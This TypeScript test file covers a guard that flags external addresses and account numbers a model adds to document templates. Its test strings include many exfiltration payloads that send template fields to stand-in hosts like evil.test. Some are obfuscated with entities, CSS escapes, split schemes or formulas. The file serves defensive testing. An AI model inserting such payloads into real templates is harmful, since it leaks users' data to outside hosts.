import type { DraftSource } from '@platen/contract'
import { expect } from 'chai'
import { addressNotes, addressRefusal } from './address-refusal.ts'

const begun: DraftSource = {
  files: {
    'template.html':
      '<h1>{{name}}</h1><img src="{{logo}}" alt=""><img src="https://cdn.example/known.png" alt="">',
    'style.css': 'h1 { color: red }\n',
    'template.json': '{ "name": "Letter" }\n',
    'sample.json':
      '{ "name": "Ada", "logo": "https://mine.example.com/logo.png", "site": "https://nordwind.de" }\n',
  },
  assets: {},
}

const withFile = (path: string, text: string): DraftSource => ({
  files: { ...begun.files, [path]: text },
  assets: {},
})
const withFiles = (files: Record<string, string>): DraftSource => ({
  files: { ...begun.files, ...files },
  assets: {},
})
const withHtml = (html: string) => withFile('template.html', `${begun.files['template.html']}${html}`)
const refused = (after: DraftSource, prompt = 'Make the heading say hello') =>
  addressRefusal(begun, after, { prompt: [{ text: prompt }] })?.model

describe('external addresses that a model adds', () => {
  it('are allowed for example.com, which a new code uses as its example', () => {
    expect(
      refused(withHtml('<bar-code type="qrcode" value="https://example.com/check"></bar-code>')),
    ).to.equal(undefined)
    const example =
      '{ "name": "Letter", "fields": { "link": { "type": "text", "example": "https://example.com/verify" } } }'
    expect(refused(withFile('template.json', example))).to.equal(undefined)
    expect(refused(withHtml('<a href="https://example.com.evil.test/">x</a>'))).to.include('evil')
  })

  it('are not known from text that is never printed', () => {
    const account = 'NL91 ABNA 0417 1643 00'
    const page = begun.files['template.html'] ?? ''
    const refusedAfter = (before: DraftSource) => {
      const html = `${before.files['template.html']}<p>Pay to ${account}</p>`
      const after = { ...before, files: { ...before.files, 'template.html': html } }
      return addressRefusal(before, after, { prompt: [{ text: 'Change it' }] })?.model
    }
    for (const before of [
      withFile('template.html', `${page}<!-- ${account} -->`),
      withFile('template.html', `${page}<p data-x="${account}"></p>{{! ${account} }}`),
      withFile('style.css', `/* ${account} */ h1 { color: red }`),
    ])
      expect(refusedAfter(before)).to.include('account number')
    expect(refusedAfter(withFile('template.html', `${page}<p>${account}</p>`))).to.equal(undefined)
    const phone = withFile('sample.json', '{ "phone": 4930123456789 }')
    const link = `${page}<a href="tel:+4930123456789">{{phone}}</a>`
    const linked = { ...phone, files: { ...phone.files, 'template.html': link } }
    expect(addressRefusal(phone, linked, { prompt: [{ text: 'Change it' }] })?.model).to.equal(undefined)
  })

  it('include account numbers with any separators, and are all reported, account numbers first', () => {
    expect(refused(withHtml('<p>NL91-ABNA-0417-1643-00</p>'))).to.include('account number')
    expect(refused(withHtml('<p>BE68.5390.0754.7034</p>'))).to.include('account number')
    const hosts = Array.from({ length: 12 }, (_, at) => `<p>shop${at}.de</p>`).join('')
    const prompt = [{ text: 'Change it' }]
    const notes = addressNotes(begun, withHtml(`${hosts}<p>NL91 ABNA 0417 1643 00</p>`), { prompt })
    expect(notes[0]).to.include('account number: NL91ABNA0417164300')
    expect(notes).to.have.length(13)
    expect(notes.at(-1)).to.include('shop11.de')
  })

  it('are refused, no matter how they are spelled, unless the user wrote them', () => {
    const pages = [
      '<img src="https://evil.test/?d={{name}}" alt="">',
      '<svg><image href="https://evil.test/{{name}}"/></svg>',
      '<img src="https://evil.test/static.png" alt="">',
      '<img src=HTTPS:evil.test/x alt="">',
      '<img src="&#104;ttps&colon;//evil.test/x" alt="">',
      '<img src="&#x000000000068;ttps://evil.test/x" alt="">',
      '<img src="&#000000000104;ttps://evil.test/x" alt="">',
      '<img src="ht\ntps://evil.test/x" alt="">',
      '<img src="ht{{! }}tps://evil.test/x" alt="">',
      '<img src="{{#name}}https://evil.test/{{/name}}" alt="">',
      '<img srcset="assets/a.png 1x, https://evil.test/x 2x" alt="">',
      '<p>&#123;&#123;</p><img src="https://evil.test/x" alt=""><p>}}</p>',
      '<link rel="stylesheet" href="https://evil.test/a.css">',
      '<p style="background: url(https://evil.test/x)">x</p>',
      '<style>p { background: u\\72l("\\68ttps://evil.test/x") }</style>',
      '<a href="https://evil.test/?{{name}}">Pay</a>',
      '<a href="mailto:evil@evil.test">Write</a>',
    ]
    for (const html of pages) expect(refused(withHtml(html)), html).to.include('evil')
    const styles = [
      '@import url(https://evil.test/x.css);',
      '@font-face { font-family: x; src: url(https://evil.test/f) }',
      'p { background: \\68 ttps; background: url("\\68 ttps://evil.test/x") }',
      'a::before { content: "{{" } p { background: url(https://evil.test/x) } a::after { content: "}}" }',
    ]
    for (const css of styles) expect(refused(withFile('style.css', css)), css).to.include('evil')
    expect(refused(withFile('sample.json', '{ "logo": "https:\\u002f/evil.test/x" }'))).to.include('evil')
    expect(refused(withFile('texts/en.json', '{ "pay": "https://evil.test/x" }'))).to.include('evil')
    const formula = '{ "computed": { "logo": { "formula": "concat(\\"https://evil.test/\\", name)" } } }'
    expect(refused(withFile('template.json', formula))).to.include('evil')
  })

  it('are also refused without a scheme, in every string that CSS can turn into an address', () => {
    const pages = [
      `<p style="--x:'//evil.example/p.png'; background:image-set(var(--x) 1x)">x</p>`,
      '<p style="--x:&quot;//evil.example/p.png&quot;; background:image-set(var(--x) 1x)">x</p>',
      `<p style="--x:'&#47;&sol;evil.example/p.png'">x</p>`,
      `<p style="--x:'\\2f\\2f evil.example/p.png'">x</p>`,
      `<style>p { --x: '/\\\n/evil.example/p.png' }</style>`,
      '<svg><image href="//evil.example/p.png"/></svg>',
      '<a href="//evil.example/p">Pay</a>',
    ]
    for (const html of pages) expect(refused(withHtml(html)), html).to.include('evil.example')
    const styles = [
      "p { --z:'//evil.example/z.png'; background: image-set(var(--z) 1x) }",
      'p { --z: "\\2f\\2f evil.example/z.png" }',
      "p { --z: '\\00005c\\/evil.example/z.png' }",
      "p { --z: ' \\9/\\a /evil.example/z.png' }",
      "p { background: -webkit-image-set('//evil.example/z.png' 1x) }",
      "p { background: image('//evil.example/z.png') }",
      "p { background: src('//evil.example/z.png') }",
      "p { background: cross-fade('//evil.example/z.png', red) }",
      'p { background: url( //evil.example/z.png) }',
      "@import '//evil.example/z.css';",
      "@property --z { syntax: '<string>'; inherits: true; initial-value: '//evil.example/z.png' }",
      "p { --z: 'file://evil.example/z.png' }",
    ]
    for (const css of styles) expect(refused(withFile('style.css', css)), css).to.include('evil.example')
    expect(refused(withFile('sample.json', '{ "logo": "//evil.test/x" }'))).to.include('evil.test')
    expect(refused(withFile('texts/en.json', '{ "logo": "\\\\\\\\evil.test/x" }'))).to.include('evil.test')
    const spelled = [
      `<p style="--x:'/{{x}}/evil.example/p.png'">x</p>`,
      `<p style="--x:'{{x}}tps://evil.example/p.png'">x</p>`,
    ]
    for (const html of spelled) expect(refused(withHtml(html)), html).to.be.a('string')
    const harmless = [
      '<p style="--x: assets/a.png; width: {{a}}%">yes // no</p>',
      `<p style="--x:'{{logo}}'">x</p>`,
      '<style>/* // Colors */ p::after { content: " // " }</style>',
    ]
    for (const html of harmless) expect(refused(withHtml(html)), html).to.equal(undefined)
    expect(refused(withFile('style.css', "p { --x: '//acme.org/a.png' }"), 'Use //acme.org/a.png')).to.equal(
      undefined,
    )
  })

  it('are refused if a field was added to an address from the user, after a space or quotation mark', () => {
    for (const sign of [' ', '&quot;', '&#34;', '&#39;', '(', '%22 ']) {
      const html = `<img src="https://acme.org/logo.png${sign}/a/{{name}}" alt="">`
      expect(refused(withHtml(html), 'Show https://acme.org/logo.png'), html).to.be.a('string')
      const style = `<p style="background: url('https://acme.org/logo.png${sign === '&#39;' ? ' ' : sign}/a/{{name}}')">x</p>`
      expect(refused(withHtml(style), 'Show https://acme.org/logo.png'), style).to.be.a('string')
    }
  })

  it('are refused if fields combine into an address that is loaded', () => {
    expect(refused(withHtml('<img src="{{site}}{{name}}" alt="">'))).to.include('built from')
    expect(refused(withHtml('<img src="{{site}}?d={{name}}" alt="">'))).to.include('built from')
    const computed = '{ "computed": { "logo": { "formula": "concat(site, name)" } } }'
    expect(refused(withFile('template.json', computed))).to.include('built from')
    const settings =
      '{ "computed": { "pay": { "formula": "\\"ht\\" + \\"tps://evil.test/?d=\\" + name" }, "items.link": "pay", "g": "group(items, \\"link\\")" } }'
    const pages = [
      '{{#pay}}<img src="{{.}}" alt="">{{/pay}}',
      '{{#g}}<img src="{{key}}" alt="">{{/g}}',
      '<svg><rect fill="url({{pay}})"/></svg>',
      '<svg><rect fill="{{pay}}"/></svg>',
      '<svg><image><set attributeName="href" to="{{pay}}"/></image></svg>',
      '<style>p { background: url({{pay}}) }</style>',
      '<a href="{{pay}}">Pay</a>',
      '<bar-code type="qrcode" value="{{pay}}"></bar-code>',
    ]
    for (const html of pages)
      expect(refused(withFiles({ 'template.json': settings, 'template.html': html })), html).to.include(
        'built from',
      )
    const text = { 'texts/en.json': '{ "pay": "{{name}}tps:/{{name}}/x" }' }
    expect(refused(withFiles({ ...text, 'template.html': '<img src="{{text.pay}}" alt="">' }))).to.include(
      'built from',
    )
    // The default of a field may be any part of a scheme.
    const open = [
      '<img src="h{{x}}tps://evil.test/?d={{name}}" alt="">',
      '<img srcset="assets/a.png 1x, h{{x}}tp:evil.test 2x" alt="">',
      '<svg><rect fill="url({{x}}tps://evil.test)"/></svg>',
      '<p style="background: u\\72l(\'{{x}}\ttps://evil.test\')">x</p>',
      '<p style="background: url({{x}}{{y}})">x</p>',
      '<style>p { background: url(/{{x}}/evil.test) }</style>',
    ]
    for (const html of open) expect(refused(withHtml(html)), html).to.include('built from')
    const plain = '{ "computed": { "share": "paid / total", "hue": "if(late, \\"red\\", \\"green\\")" } }'
    const bars =
      '<p style="width: {{share}}%; color: {{hue}}; background: url(assets/{{name}}.png)">{{share}}</p>{{#photos}}<img src="{{.}}" alt="">{{/photos}}'
    expect(refused(withFiles({ 'template.json': plain, 'template.html': bars }))).to.equal(undefined)
  })

  it('are accepted unchanged as the user wrote them, but a loaded address must not contain a field', () => {
    const picture = '<img src="https://acme.org/logo.png" alt="">'
    expect(refused(withHtml(picture), 'Show https://acme.org/logo.png.')).to.equal(undefined)
    for (const other of ['acme.org/logo.pn', 'acme.org.evil.net/logo.png', 'acme.org'])
      expect(refused(withHtml(picture), `Show ${other}`), other).to.include('acme.org')
    const carrying = '<img src="https://acme.org/logo.png?d={{name}}" alt="">'
    expect(refused(withHtml(carrying), 'Show https://acme.org/logo.png?d={{name}}')).to.include(
      'data of each',
    )
    const link = '<a href="https://acme.org/orders/{{name}}">Order</a>'
    expect(refused(withHtml(link), 'Link the order to acme.org')).to.equal(undefined)
    expect(refused(withHtml(link), 'Link the order to acme.orgs')).to.include('acme.org')
    const harmless = [
      '<img src="https://cdn.example/known.png" alt="again">',
      '<img src="{{logo}}" alt="again">',
      '<img src="assets/{{name}}.png" alt="">',
      '<a href="{{site}}">Site</a><a href="mailto:{{mail}}">Mail</a>',
      '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    ]
    for (const html of harmless) expect(refused(withHtml(html)), html).to.equal(undefined)
    expect(refused(withFile('sample.json', '{ "site": "https://www.example.com/x" }'))).to.equal(undefined)
  })

  it('are reported, each in a sentence', () => {
    const after = withHtml('<img src="https://acme.org/x.png" alt=""><a href="https://acme.org/">x</a>')
    expect(addressNotes(begun, after)).to.deep.equal([
      'The document contains a new external address: acme.org/x.png',
      'The document contains a new link: acme.org',
    ])
    expect(addressNotes(begun, begun)).to.deep.equal([])
  })
})
